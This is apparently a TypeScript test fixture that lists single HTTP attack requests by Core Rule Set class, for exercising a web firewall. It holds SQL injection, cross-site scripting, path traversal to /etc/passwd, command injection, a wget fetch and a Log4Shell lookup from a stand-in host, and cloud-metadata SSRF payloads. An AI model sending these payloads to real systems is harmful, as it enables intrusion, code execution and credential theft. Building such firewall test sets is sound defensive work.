/** One request as an attacker sends it. */
export interface Attack {
  readonly name: string;
  readonly path?: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const json = { "content-type": "application/json" };
const form = { "content-type": "application/x-www-form-urlencoded" };

/** Attacks of different classes, as the Core Rule Set names them. */
export const attacks: readonly Attack[] = [
  { name: "SQL injection, always true", path: "/papers?id=1%27%20OR%20%271%27=%271" },
  { name: "SQL injection, union", path: "/papers?id=1+UNION+SELECT+password+FROM+users" },
  { name: "SQL injection, blind", path: "/papers?id=1+AND+SLEEP(5)" },
  { name: "SQL injection in JSON", method: "POST", headers: json, body: `{"q":"1' OR '1'='1' -- "}` },
  { name: "cross-site script in a query", path: "/?q=%3Cscript%3Ealert(1)%3C/script%3E" },
  {
    name: "cross-site script in JSON",
    method: "POST",
    headers: json,
    body: '{"a":"<img src=x onerror=alert(1)>"}',
  },
  {
    name: "cross-site script in a form",
    method: "POST",
    headers: form,
    body: "a=%3Csvg+onload%3Dalert(1)%3E",
  },
  { name: "path traversal", path: "/?file=../../../../etc/passwd" },
  { name: "hidden file", path: "/.git/config" },
  { name: "remote file", path: "/?page=http://192.0.2.7/shell.txt%3F" },
  { name: "command injection", path: "/?host=127.0.0.1;cat+/etc/passwd" },
  { name: "command substitution", path: "/?name=$(wget+http://192.0.2.7/x)" },
  { name: "shellshock", headers: { "user-agent": "() { :; }; /bin/bash -c id" } },
  { name: "PHP injection", path: "/?code=%3C?php+system('id')" },
  { name: "Node.js injection", path: "/?t=require('child_process').exec('id')" },
  { name: "Log4Shell", headers: { "x-api-version": "${jndi:ldap://192.0.2.7/a}" } },
  { name: "Java deserialisation", path: "/?cls=java.lang.Runtime" },
  { name: "server-side request forgery", path: "/?url=http://169.254.169.254/latest/meta-data/" },
  { name: "header injection", path: "/?next=%0d%0aSet-Cookie:+a=b%0d%0a" },
  { name: "session fixation", path: "/?c=%3Cscript%3Edocument.cookie=%22a%22" },
  { name: "scanner", headers: { "user-agent": "sqlmap/1.8" } },
];
